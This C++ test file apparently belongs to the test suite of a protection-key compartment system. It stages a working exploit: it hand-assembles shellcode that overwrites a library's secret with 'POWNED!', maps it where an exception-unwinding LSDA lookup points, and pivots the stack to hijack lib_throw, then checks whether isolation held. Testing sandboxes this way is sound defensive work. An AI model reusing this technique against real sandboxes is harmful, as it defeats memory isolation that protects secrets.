// attacks-rev68b-late-lsda-word.test: the attacker (default domain's code)
// dlopens argv[1] (libvault, with plain_apply linked in), maps a file of
// its own code where the word before plain_apply's LSDA points (mode
// "attack"; "nomap" leaves it unmapped), and enters lib_throw on a key-0
// stack whose return address is plain_apply's call site.
#include <bulkhead.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

/* The program's own compartment: protection keys are set up at start-up. */
BULKHEAD_DATA(appvault) int app_x;
extern "C" BULKHEAD_ENTRY(appvault) int app_get(void) { return app_x; }

extern "C" {
uintptr_t fake_stack[16384] __attribute__((aligned(16))); /* key 0 */
volatile unsigned seen_pkru = 1;
void attack_call(void *entry, uintptr_t site, uintptr_t *top);
const void *_Unwind_Find_FDE(void *pc, void *bases);
}
__asm__(".text\nattack_call:\n  movq %rdx, %rsp\n  pushq %rsi\n  jmpq *%rdi\n");

static unsigned pkru(void) {
  unsigned v;
  __asm__ volatile("xorl %%ecx, %%ecx\n\trdpkru" : "=a"(v) : : "ecx", "edx");
  return v;
}

/* The word before the LSDA of the function at PC, as libgcc_s's own lookup
 * finds its FDE (default rights): clang's CIE "zPLR", the LSDA pcrel
 * sdata4 after a pcrel sdata4 range and a one-byte augmentation length. */
static uintptr_t word_before_lsda(uintptr_t pc) {
  void *bases[3];
  const uint8_t *fde = (const uint8_t *)_Unwind_Find_FDE((void *)pc, bases);
  if (!fde)
    return 0;
  int32_t cie_off, rel;
  memcpy(&cie_off, fde + 4, 4);
  if (strcmp((const char *)(fde + 4 - cie_off) + 9, "zPLR"))
    return 0;
  const uint8_t *f = fde + 8 + 4 + 4 + 1;
  memcpy(&rel, f, 4);
  uintptr_t v;
  memcpy(&v, f + rel - 8, 8);
  return v;
}

/* Code that notes its PKRU in seen_pkru, writes "POWNED!" at SECRET and
 * spins, into a file, at X's offset in its page. */
static int code_file(uintptr_t x, long *secret) {
  uint8_t code[64];
  size_t n = 0;
  uintptr_t at_pkru = (uintptr_t)&seen_pkru, at_secret = (uintptr_t)secret;
  long powned = 0x2144454e574f50;
  const uint8_t a[] = {0x31, 0xc9, 0x0f, 0x01, 0xee, 0x48, 0xba}; /* rdpkru; movabs rdx */
  const uint8_t b[] = {0x89, 0x02, 0x48, 0xba};                   /* mov eax,(rdx); movabs rdx */
  const uint8_t c[] = {0x48, 0xb8};                               /* movabs rax */
  const uint8_t d[] = {0x48, 0x89, 0x02, 0xeb, 0xfe};             /* mov rax,(rdx); jmp . */
  memcpy(code + n, a, sizeof a), n += sizeof a;
  memcpy(code + n, &at_pkru, 8), n += 8;
  memcpy(code + n, b, sizeof b), n += sizeof b;
  memcpy(code + n, &at_secret, 8), n += 8;
  memcpy(code + n, c, sizeof c), n += sizeof c;
  memcpy(code + n, &powned, 8), n += 8;
  memcpy(code + n, d, sizeof d), n += sizeof d;
  const char *path = "/tmp/rev68b-late-code";
  int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0700);
  if (fd < 0 || ftruncate(fd, 4096) ||
      pwrite(fd, code, n, x & 0xfff) != (ssize_t)n)
    return -1;
  close(fd);
  return open(path, O_RDONLY);
}

static void *entry;
static uintptr_t site;
static void *attacker(void *) {
  attack_call(entry, site, &fake_stack[16000]);
  return NULL;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *mode = argc > 2 ? argv[2] : "attack";
  void *h = dlopen(argv[1], RTLD_NOW);
  if (!h) {
    printf("dlopen: %s\n", dlerror());
    return 2;
  }
  auto lib_catch = (int (*)(int))dlsym(h, "lib_catch");
  auto secret_is = (long (*)(long))dlsym(h, "lib_secret_is");
  long *secret = (long *)dlsym(h, "lib_secret");
  const uint8_t *plain = (const uint8_t *)dlsym(h, "plain_apply");
  entry = dlsym(h, "lib_throw");
  /* plain_apply as Inputs/rev68b-late-plain.cpp compiles: `call *%rax`
   * at +6. */
  if (!lib_catch || !secret_is || !secret || !plain || !entry ||
      plain[6] != 0xff || plain[7] != 0xd0) {
    printf("error: the object is not the code this test was written for\n");
    return 2;
  }
  site = (uintptr_t)plain + 8;
  if (!strcmp(mode, "catch")) {
    printf("lib_catch: %d\n", lib_catch(5));
    return 0;
  }
  uintptr_t x = word_before_lsda(site);
  printf("the word before plain_apply's LSDA: %#lx\n", (unsigned long)x);
  if (!strcmp(mode, "attack")) {
    int fd = code_file(x, secret);
    void *m = x < 0x10000 || fd < 0
                  ? MAP_FAILED
                  : mmap((void *)(x & ~(uintptr_t)0xfff), 4096,
                         PROT_READ | PROT_EXEC,
                         MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0);
    printf("attacker's code %s\n", m == MAP_FAILED ? "not mapped" : "mapped");
  }
  pthread_t t;
  pthread_create(&t, NULL, attacker, NULL);
  for (int i = 0; i < 500 && seen_pkru == 1; i++)
    usleep(10000);
  if (seen_pkru != 1 && seen_pkru != pkru())
    printf("ATTACK SUCCEEDED: the attacker's code ran with PKRU %#x\n",
           seen_pkru);
  if (secret_is(0x2144454e574f50))
    printf("ATTACK SUCCEEDED: libvault's secret now is \"POWNED!\"\n");
  else if (!secret_is(0x5445524345532d4bL))
    printf("ATTACK SUCCEEDED: libvault's secret was overwritten\n");
  else
    printf("libvault's secret intact\n");
  printf("app %d done\n", app_get());
  return 0;
}
